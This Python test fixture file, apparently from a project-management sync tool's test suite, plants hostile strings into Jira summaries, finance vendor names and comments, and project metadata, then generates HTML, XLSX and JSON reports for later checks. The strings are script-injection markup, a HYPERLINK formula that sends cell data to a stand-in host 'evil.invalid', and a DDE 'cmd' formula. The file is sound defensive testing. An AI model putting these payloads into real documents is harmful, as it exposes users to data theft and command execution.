"""Fixtures shared by the guarantee tests: a store synced from hostile sources, with its report."""

from __future__ import annotations

import dataclasses
import json
import random
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from pmsync.cli import cli
from pmsync.sandbox.finance_gen import month_lines, write_export
from pmsync.sandbox.jira import jira_sandbox
from pmsync.sandbox.jira.data import issue_type_of

ANCHOR = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
SCRIPT = "<script>alert('{n}')</script><img src=x onerror=alert({n})>"
FORMULAS = ['=HYPERLINK("http://evil.invalid/?"&A1,"{n}")', "+cmd|' /C calc {n}'!A0", "@SUM(1+{n})", "-1+{n}"]


def payload(n: int) -> str:
    """A distinct hostile text per field: markup, then a formula lead (cycled)."""
    return FORMULAS[n % len(FORMULAS)].format(n=n) + " " + SCRIPT.format(n=n)


@dataclasses.dataclass
class Written:
    folder: Path
    html: str
    xlsx: bytes
    json: dict[str, Any]
    planted: dict[str, str]


@pytest.fixture(scope="package")
def written(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Written]:
    """Hostile text planted in Jira summaries, a finance export's vendors and comments, and the
    project's name and narrative; synced, then reported by ``pmsync report`` (html, xlsx, json)."""
    folder = tmp_path_factory.mktemp("hostile")
    planted: dict[str, str] = {"project name": payload(0), "narrative": payload(1)}
    with jira_sandbox(["ERP"], 20, seed=5, anchor=ANCHOR) as jira:
        for n in range(1, 21):
            text = payload(100 + n)
            jira.app.hooks.field_overrides[f"ERP-{n}"] = {"summary": text}
            planted[f"jira {issue_type_of(n)} ERP-{n}"] = text
        lines = list(month_lines(["P-100"], date(2026, 10, 1), 12, random.Random(3)))
        lines = [
            dataclasses.replace(line, supplier=payload(200 + i), comment=payload(300 + i))
            for i, line in enumerate(lines)
        ]
        planted.update({f"vendor {i}": line.supplier for i, line in enumerate(lines)})
        (folder / "finance").mkdir()
        write_export(folder / "finance" / "pa-costs-2026-10.csv", iter(lines))
        (folder / "narrative.md").write_text(planted["narrative"] + "\n", encoding="utf-8")
        config = {
            "store": {"url": "sqlite:///pmsync.db"},
            "projects": [
                {"key": "ERP", "name": planted["project name"], "narrative_file": "narrative.md",
                 "links": {"jira": ["ERP"], "finance_file": ["P-100"]}},
            ],
            "sources": [
                {"name": "jira", "type": "jira", **jira.source_settings(page_size=50)},
                {"name": "finance", "type": "finance_file", "path": "finance",
                 "mapping": "finance-oracle-ebs.yaml"},
            ],
        }  # fmt: skip
        path = folder / "pmsync.yaml"
        path.write_text(yaml.safe_dump(config, sort_keys=False), encoding="utf-8")
        runner = CliRunner()
        synced = runner.invoke(cli, ["--config", str(path), "sync"])
        assert synced.exit_code == 0, synced.output
    out = folder / "reports"
    made = runner.invoke(
        cli,
        [
            "--config",
            str(path),
            "report",
            "--period",
            "2026-11",
            "--format",
            "html,xlsx,json",
            "--out",
            str(out),
        ],
    )
    assert made.exit_code == 0, made.output
    yield Written(
        folder,
        (out / "report-2026-11.html").read_text(encoding="utf-8"),
        (out / "report-2026-11.xlsx").read_bytes(),
        json.loads((out / "report-2026-11.json").read_text(encoding="utf-8")),
        planted,
    )
